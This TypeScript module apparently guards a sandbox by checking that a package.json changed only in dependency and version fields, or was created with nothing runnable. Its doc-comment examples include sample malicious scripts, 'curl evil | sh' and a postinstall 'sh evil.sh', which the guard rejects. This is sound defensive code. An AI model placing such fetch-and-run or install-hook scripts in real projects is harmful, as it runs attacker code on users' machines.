/**
 * The fields of a package.json that `npm install`, `npm uninstall`, `npm version` and their pnpm
 * and yarn kin rewrite: the dependencies and the version. Every other field (`scripts`, and what
 * other tools read from it: husky's and simple-git-hooks' hooks, lint-staged's commands…) may
 * make a later `npm test` or `git commit` run a program, and is not judged field by field.
 */
const PACKAGE_MANAGER_FIELDS = [
  'dependencies',
  'devDependencies',
  'optionalDependencies',
  'peerDependencies',
  'peerDependenciesMeta',
  'bundleDependencies',
  'bundledDependencies',
  'version',
];

/** What `npm init -y` and `pnpm init` write besides those: metadata that runs nothing. */
const INIT_FIELDS = [
  'name',
  'description',
  'main',
  'keywords',
  'author',
  'license',
  'type',
  'private',
  'homepage',
  'repository',
  'bugs',
];

/** The one script `npm init -y` and `pnpm init` write. */
const INIT_TEST_SCRIPT = 'echo "Error: no test specified" && exit 1';

/**
 * Whether a sandboxed command changed only what a package manager changes in a package.json
 * that was there before it: the dependency fields and the version. A text that is not a JSON
 * object counts as changed unless it is the same text.
 *
 * @param before The file's text before the command.
 * @param after Its text after.
 * @returns True when every other field is as it was (formatting and key order aside).
 *
 * @example
 * ```ts
 * import { packageManagerChangeOnly } from './_package_json_guard.ts';
 *
 * packageManagerChangeOnly('{"scripts":{"test":"vitest"}}', '{"scripts":{"test":"vitest"},"dependencies":{"x":"^1.0.0"}}'); // true
 * packageManagerChangeOnly('{"scripts":{"test":"vitest"}}', '{"scripts":{"test":"curl evil | sh"}}'); // false
 * ```
 */
export function packageManagerChangeOnly(before: string, after: string): boolean {
  if (before === after) return true;
  const old = parseObject(before);
  const now = parseObject(after);
  if (old === undefined || now === undefined) return false;
  return canonical(without(old, PACKAGE_MANAGER_FIELDS)) === canonical(without(now, PACKAGE_MANAGER_FIELDS));
}

/**
 * Whether a package.json a sandboxed command created runs nothing: only what `npm init -y` or
 * `pnpm init` writes (its one placeholder test script included) and dependency fields.
 *
 * @param text The new file's text.
 * @returns True for such a file; false for scripts, another field, or text that is not a JSON object.
 *
 * @example
 * ```ts
 * import { inertNewPackageJson } from './_package_json_guard.ts';
 *
 * inertNewPackageJson('{"name":"x","version":"1.0.0","dependencies":{"y":"^2.0.0"}}'); // true
 * inertNewPackageJson('{"name":"x","scripts":{"postinstall":"sh evil.sh"}}'); // false
 * ```
 */
export function inertNewPackageJson(text: string): boolean {
  const json = parseObject(text);
  if (json === undefined) return false;
  for (const [key, value] of Object.entries(json)) {
    if (PACKAGE_MANAGER_FIELDS.includes(key) || INIT_FIELDS.includes(key)) continue;
    if (key === 'scripts' && canonical(value) === canonical({ test: INIT_TEST_SCRIPT })) continue;
    return false;
  }
  return true;
}

function parseObject(text: string): Record<string, unknown> | undefined {
  try {
    const value: unknown = JSON.parse(text);
    return typeof value === 'object' && value !== null && !Array.isArray(value)
      ? (value as Record<string, unknown>)
      : undefined;
  } catch {
    return undefined;
  }
}

function without(json: Record<string, unknown>, keys: readonly string[]): Record<string, unknown> {
  return Object.fromEntries(Object.entries(json).filter(([key]) => !keys.includes(key)));
}

/** JSON with every object's keys sorted: the same value, however a tool ordered or indented it. */
function canonical(value: unknown): string {
  return JSON.stringify(value, (_key, v: unknown) =>
    typeof v === 'object' && v !== null && !Array.isArray(v)
      ? Object.fromEntries(Object.entries(v).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)))
      : v,
  );
}
